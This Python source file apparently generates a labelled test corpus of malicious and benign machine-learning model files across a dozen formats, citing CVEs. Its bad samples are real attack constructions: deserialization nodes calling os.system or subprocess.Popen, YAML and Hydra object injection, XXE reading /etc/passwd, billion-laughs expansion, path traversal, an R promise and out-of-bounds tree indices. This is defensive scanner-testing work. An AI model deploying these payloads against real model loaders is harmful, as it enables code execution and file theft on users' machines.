"""Others: attacks by formats of which each has its own loader: skops, NeMo, TorchServe, PMML, OpenVINO, Core ML, TFLite, R,
MessagePack, XGBoost, LightGBM, Paddle and llamafile."""  # noqa: E501

import gzip
import json
import struct
from collections.abc import Iterator
from typing import Any

from corpus.archives import Entry, object_npy, tarred, torch_zip, zipped
from corpus.opcodes import COMMAND, call, payload, pickled
from corpus.sample import Group, Label, Made
from corpus.torch_files import ELF
from corpus.wires import Table, flatbuffer, proto

PASSWD = "/etc/passwd"


def _skops() -> Group:
    group = Group("skops")

    ids = iter(range(1, 1000))

    def node(module: str, name: str, loader: str, **more: Any) -> dict[str, Any]:
        return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": next(ids), **more}

    def schema(content: dict[str, Any], *others: Entry) -> bytes:
        text = json.dumps({**content, "protocol": 2, "_skops_version": "0.13.0"})
        return zipped(Entry("schema.json", text.encode(), method=8), *others)

    text = node("builtins", "str", "JsonNode", content='"true"', is_json=True)
    command = node("builtins", "tuple", "TupleNode", content=[text])
    group.bad(
        "function.skops",
        schema(node("os", "system", "FunctionNode", content={"module_path": "os", "function": "system"})),
    )
    group.bad(
        "operator.skops",
        schema(node("operator", "methodcaller", "OperatorFuncNode", attrs=command)),
        "",
        "CVE-2025-54412",
    )
    group.bad(
        "operator-disguised.skops",
        schema(node("builtins", "call", "OperatorFuncNode", attrs=command)),
        "the type that is shown is not what is called",
        "CVE-2025-54412",
    )
    held = node("builtins", "str", "JsonNode", content='"x"', is_json=True)
    group.bad(
        "method.skops",
        schema(node("builtins", "__globals__", "MethodNode", content={"func": "__globals__", "obj": held})),
        "",
        "CVE-2025-54413",
    )
    partial = {
        "func": node("os", "system", "FunctionNode", content={"module_path": "os", "function": "system"}),
        "args": command,
        "kwds": node("builtins", "dict", "DictNode", content={}),
        "namespace": node("builtins", "dict", "DictNode", content={}),
    }
    group.bad("partial.skops", schema(node("functools", "partial", "PartialNode", content=partial)))
    group.bad(
        "reduce.skops",
        schema(
            node(
                "subprocess",
                "Popen",
                "ReduceNode",
                constructor={"module_path": "subprocess", "function": "Popen"},
                args=command,
            )
        ),
    )
    group.bad(
        "object.skops",
        schema(
            node(
                "code", "InteractiveInterpreter", "ObjectNode", content=node("builtins", "dict", "DictNode", content={})
            )
        ),
    )
    array = node("numpy", "ndarray", "NdArrayNode", type="numpy", file="a.npy")
    group.bad("array.skops", schema(array, Entry("a.npy", object_npy(payload()))), "an object array is a pickle")
    group.bad("pickle.skops", payload(), "Card.get_model falls back to joblib", "CVE-2025-54886")
    group.bad("member.skops", schema(text, Entry("model.pkl", payload())))
    group.good("text.skops", schema(text))
    mine = node("mypackage.models", "Mine", "ObjectNode", content=node("builtins", "dict", "DictNode", content={}))
    group.good("own-class.skops", schema(mine), "a class of somebody's own package", Label.UNKNOWN)
    return group


def _archives() -> Group:
    group = Group("NeMo and TorchServe")
    target = "model:\n  _target_: os.system\n  command: 'true'\n"
    honest = "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  features: 64\n"  # noqa: E501
    weights = torch_zip()
    group.bad(
        "target.nemo",
        tarred(("./model_config.yaml", target), ("./model_weights.ckpt", weights)),
        "Hydra calls what _target_ names",
        "CVE-2025-23304",
    )
    group.bad(
        "target-eval.nemo",
        gzip.compress(
            tarred(
                ("model_config.yaml", honest + "x:\n  _target_: builtins.eval\n  _args_: ['1']\n"),
                ("model_weights.ckpt", weights),
            ),
            mtime=0,
        ),
        "",
        "CVE-2025-23304",
    )
    group.bad("weights.nemo", tarred(("model_config.yaml", honest), ("model_weights.ckpt", torch_zip(payload(2)))))
    group.bad(
        "slip.nemo",
        tarred(("model_config.yaml", honest), ("../../backstay-none", b"x"), ("model_weights.ckpt", weights)),
    )
    group.bad(
        "yaml.nemo",
        tarred(("model_config.yaml", "a: !!python/object/apply:os.system ['true']\n"), ("model_weights.ckpt", weights)),
    )
    group.good("plain.nemo", tarred(("./model_config.yaml", honest), ("./model_weights.ckpt", weights)))
    manifest = {
        "createdOn": "01/01/2026",
        "runtime": "python",
        "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "handler.py", "modelVersion": "1.0"},
        "archiverVersion": "0.12.0",
    }

    def mar(source: str, model: bytes = weights, **more: Any) -> bytes:
        changed = {**manifest, "model": {**manifest["model"], **more}}  # type: ignore[dict-item]
        return zipped(
            Entry("MAR-INF/MANIFEST.json", json.dumps(changed).encode()),
            Entry("handler.py", source.encode()),
            Entry("m.pt", model),
        )

    own = "from ts.torch_handler.base_handler import BaseHandler\n\n\nclass Handler(BaseHandler):\n    def preprocess(self, data):\n        return data\n"  # noqa: E501
    group.bad("weights.mar", mar(own, torch_zip(payload(2))))
    group.bad("handler.mar", mar("import os\nos.system('true')\n" + own), "the handler runs a command when imported")
    group.bad("handler-network.mar", mar(own + "\n\nimport base64\nexec(base64.b64decode('cGFzcw=='))\n"))
    group.bad("slip.mar", mar(own, handler="../../backstay.py"))
    group.good("handler.mar", mar(own), "its handler is code", Label.CODE)
    return group


ENTITY = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{PASSWD}">]>'
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>"
    + "".join(
        f"<!ENTITY a{n} '{'&a' + (str(n - 1) if n else '') + ';'}{'&a' + (str(n - 1) if n else '') + ';'}'>"
        for n in range(40)
    )
    + "]>"
)


def _xml() -> Group:
    group = Group("XML models")
    pmml = '<?xml version="1.0"?>\n{dtd}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header><Application name="{name}"/></Header><DataDictionary numberOfFields="0"/></PMML>'  # noqa: E501
    net = '<?xml version="1.0"?>\n{dtd}<net name="{name}" version="11"><layers><layer id="0" name="x" type="{kind}" version="opset1"><data element_type="f32" shape="1,4" {data}/></layer></layers><edges/></net>'  # noqa: E501
    group.bad("entity.pmml", pmml.format(dtd=ENTITY, name="&e;").encode())
    group.bad("laughs.pmml", pmml.format(dtd=LAUGHS, name="&a39;").encode(), "entities that double forty times")
    group.bad(
        "external-dtd.pmml",
        pmml.format(dtd='<!DOCTYPE PMML SYSTEM "http://backstay.invalid/x.dtd">', name="x").encode(),
    )
    group.bad(
        "parameter.pmml",
        pmml.format(dtd='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://backstay.invalid/x"> %p;]>', name="x").encode(),
    )
    group.bad(
        "utf16.pmml",
        pmml.format(dtd=ENTITY, name="&e;")
        .replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
        .encode("utf-16"),
    )
    group.bad(
        "entity.xml", net.format(dtd=ENTITY, name="&e;", kind="Parameter", data="").encode(), "an OpenVINO network"
    )
    group.bad(
        "library.xml",
        net.format(dtd="", name="m", kind="Extension", data='library="../../backstay.so"').encode(),
        "an OpenVINO network that names a library",
    )
    group.bad(
        "weights.xml",
        net.format(dtd="", name="m", kind="Const", data='offset="18446744073709551600" size="1024"').encode(),
        "data beyond any file",
    )
    group.good("plain.pmml", pmml.format(dtd="", name="JPMML").encode())
    group.good("plain.xml", net.format(dtd="", name="m", kind="Parameter", data="").encode())
    return group


def tflite(custom: str | None, buffer: bytes = b"", code: int = 32) -> bytes:
    """A TFLite model (schema.fbs) with one operator: builtin ADD, or a custom one by name (32 is CUSTOM)."""
    operator = Table(f0=(code, 1), f1=custom, f2=1, f3=code) if custom else Table(f0=(0, 1), f2=1, f3=0)
    tensor = Table(f2=0, f3="x")
    graph = Table(f0=[tensor], f4="main")
    return flatbuffer(Table(f0=3, f1=[operator], f2=[graph], f3="backstay", f4=[Table(), Table(f0=buffer)]), b"TFL3")


def _tflite() -> Group:
    group = Group("TFLite")
    for name in ("FlexReadFile", "FlexWriteFile", "FlexPyFunc", "FlexEagerPyFunc"):
        group.bad(f"{name}.tflite", tflite(name), "an operation of TensorFlow that touches files or Python")
    group.bad("program.tflite", tflite(None, ELF), "a program for weights")
    group.bad(
        "offset.tflite",
        flatbuffer(Table(f0=3), b"TFL3")[:4].replace(b"\x00", b"\xf0") + b"TFL3" + b"\0" * 64,
        "the root lies beyond the file",
    )
    group.bad(
        "appended.tflite", tflite(None) + zipped(Entry("x.pkl", payload())), "metadata files, of which one is a pickle"
    )
    group.good("add.tflite", tflite(None, b"\0" * 16))
    group.good("custom.tflite", tflite("MyOp"), "an operation of a library", Label.UNKNOWN)
    return group


def _core_ml() -> Group:
    group = Group("Core ML")

    def layer(name: str, kind: int, body: bytes) -> bytes:
        return proto((1, name), (2, "x"), (3, "y"), (kind, body))

    def model(*layers: bytes) -> bytes:
        description = proto((1, proto((1, "x"))), (10, proto((1, "y"))))
        return proto((1, 4), (2, description), (500, proto(*((1, one) for one in layers))))

    group.good("custom.mlmodel", model(layer("c", 500, proto((10, "MyLayer")))), "a layer of an app", Label.UNKNOWN)
    file = proto((1, "@model_path/../../../etc/passwd"), (2, 64))
    program = proto(
        (1, 1),
        (
            2,
            proto(
                (1, "main"),
                (
                    2,
                    proto(
                        (
                            3,
                            proto(
                                (1, "CoreML7"),
                                (2, proto((3, proto((1, "const"), (5, proto((1, "val"), (2, proto((5, file))))))))),
                            ),
                        )
                    ),
                ),
            ),
        ),
    )
    group.bad("weights.mlmodel", proto((1, 7), (2, b""), (502, program)), "weights out of the package")
    return group


def r_promise() -> bytes:
    """An R object file (XDR, version 3) whose value is an unevaluated promise: it runs when looked at."""

    def symbol(name: str) -> bytes:
        return struct.pack(">I", 1) + struct.pack(">II", 0x00040009, len(name)) + name.encode()

    header = b"X\n" + struct.pack(">III", 3, 0x00040300, 0x00030500) + struct.pack(">I", 5) + b"UTF-8"
    argument = struct.pack(">I", 16) + struct.pack(">I", 1) + struct.pack(">II", 0x00040009, 4) + b"true"
    expression = struct.pack(">I", 6) + symbol("system") + struct.pack(">I", 2) + argument + struct.pack(">I", 254)
    return header + struct.pack(">III", 0x405, 253, 252) + expression


def _lightgbm(feature: int = 0, left: int = -1) -> bytes:
    """A LightGBM model of one tree, as its text format has it (`GBDT::SaveModelToString`)."""
    tree = (
        f"Tree=0\nnum_leaves=2\nnum_cat=0\nsplit_feature={feature}\nsplit_gain=1\nthreshold=0.5\ndecision_type=2\n"
        f"left_child={left}\nright_child=-2\nleaf_value=0.1 0.2\nleaf_weight=1 1\nleaf_count=1 1\ninternal_value=0\n"
        "internal_weight=2\ninternal_count=2\nis_linear=0\nshrinkage=1\n\n\n"
    )
    head = (
        "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=1\n"
        f"objective=regression\nfeature_names=a b\nfeature_infos=[0:1] [0:1]\ntree_sizes={len(tree)}\n\n"
    )
    tail = "end of trees\n\nfeature_importances:\na=1\n\nparameters:\nend of parameters\n\npandas_categorical:null\n"
    return (head + tree + tail).encode()


def _boosters() -> Group:
    group = Group("gradient boosting")

    def booster(**trees: Any) -> dict[str, Any]:
        tree = {
            "base_weights": [0.0, 0.0, 0.0],
            "categories": [],
            "categories_nodes": [],
            "categories_segments": [],
            "categories_sizes": [],
            "default_left": [0, 0, 0],
            "id": 0,
            "left_children": [1, -1, -1],
            "loss_changes": [1.0, 0.0, 0.0],
            "parents": [2147483647, 0, 0],
            "right_children": [2, -1, -1],
            "split_conditions": [0.5, 0.1, 0.2],
            "split_indices": [0, 0, 0],
            "split_type": [0, 0, 0],
            "sum_hessian": [1.0, 1.0, 1.0],
            "tree_param": {"num_deleted": "0", "num_feature": "2", "num_nodes": "3", "size_leaf_vector": "1"},
            **trees,
        }
        model = {
            "gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"},
            "iteration_indptr": [0, 1],
            "tree_info": [0],
            "trees": [tree],
        }
        learner = {
            "attributes": {},
            "feature_names": [],
            "feature_types": [],
            "gradient_booster": {"model": model, "name": "gbtree"},
            "learner_model_param": {
                "base_score": "5E-1",
                "boost_from_average": "1",
                "num_class": "0",
                "num_feature": "2",
                "num_target": "1",
            },
            "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}},
        }
        return {"learner": learner, "version": [3, 1, 0]}

    def text(**trees: Any) -> bytes:
        return json.dumps(booster(**trees)).encode()

    group.bad("children.json", text(left_children=[1 << 28, -1, -1]), "a child beyond the nodes: memory is read there")
    group.bad("feature.json", text(split_indices=[1 << 30, 0, 0]), "a feature beyond those there are")
    group.bad(
        "cycle.json",
        text(left_children=[0, -1, -1], right_children=[0, -1, -1]),
        "a node that is its own child: never ends",
    )
    group.bad(
        "count.json",
        text(tree_param={"num_deleted": "0", "num_feature": "2", "num_nodes": "1000000000", "size_leaf_vector": "1"}),
    )
    group.bad(
        "length.ubj", b"{L\0\0\0\0\0\0\0\x07learner[$d#L\x7f\xff\xff\xff\xff\xff\xff\xff", "an array of nine exbibytes"
    )
    group.bad("pickle.ubj", payload())
    group.bad("lightgbm-child.txt", _lightgbm(left=100_000_000))
    group.bad("lightgbm-feature.txt", _lightgbm(feature=99_999_999))
    group.good("booster.json", text())
    group.good("lightgbm.txt", _lightgbm())
    return group


def _rest() -> Group:
    group = Group("other loaders")
    group.bad("promise.rds", gzip.compress(r_promise(), mtime=0), "", "CVE-2024-27322")
    group.bad("promise-plain.rds", r_promise(), "", "CVE-2024-27322")
    key = b"\xc4\x02nd\xc3\xc4\x04type\xc4\x01O\xc4\x04kind\xc4\x01O\xc4\x05shape\x91\x01\xc4\x04data"
    evil = payload()
    group.bad(
        "numpy.msgpack",
        b"\x81\xa6params\x85" + key + b"\xc4" + bytes([len(evil)]) + evil,
        "msgpack-numpy unpickles object arrays",
    )
    group.bad("bomb.msgpack", b"\x81\xa6params\xdd\xff\xff\xff\xff", "an array of four billion")
    group.bad("deep.msgpack", b"\x81\xa6params" + b"\x91" * 100_000 + b"\xc0")
    group.bad("model.pdparams", payload(2), "paddle.load unpickles")
    py = proto((3, "py_func"), (1, proto((1, "X"), (2, "x"))), (4, proto((1, "forward_callable_id"), (2, 0), (3, 0))))
    group.bad(
        "py-func.pdmodel",
        proto((1, proto((1, 0), (2, 0), (4, py))), (4, proto((1, 0)))),
        "an operation that calls Python",
    )
    group.bad("ggml.bin", b"lmgg" + struct.pack("<7I", 0xFFFFFFFF, 1, 1, 1, 1, 1, 0), "a vocabulary of four billion")
    group.bad(
        "dill-payload.dill",
        pickled(
            call("dill._dill", "_create_function", call("dill._dill", "_create_code", b"x", 0), {}),
            call("os", "system", COMMAND),
        ),
    )
    group.bad(
        "llamafile-args.llamafile",
        ELF
        + b"\0" * 64
        + zipped(Entry(".args", b"-m\n../../../etc/passwd\n--host\n0.0.0.0\n"), Entry("model.pkl", payload())),
        "a pickle within",
    )
    function = call(
        "dill._dill",
        "_create_function",
        call("dill._dill", "_create_code", 0, 0, 0, 1, 1, 67, b"d\0S\0", (None,), (), (), "f.py", "f", 1, b"", (), ()),
        {},
        "f",
        None,
        None,
    )
    group.good("function.dill", pickled(function), "a function by value", Label.CODE)
    made = call(
        "cloudpickle.cloudpickle",
        "_make_function",
        call("cloudpickle.cloudpickle", "_builtin_type", "CodeType"),
        {"__name__": "f"},
        None,
        None,
        None,
    )
    group.good("function.cloudpickle", pickled(made), "", Label.CODE)
    return group


def samples() -> Iterator[Made]:
    for group in (_skops(), _archives(), _xml(), _tflite(), _core_ml(), _boosters(), _rest()):
        yield from group.made
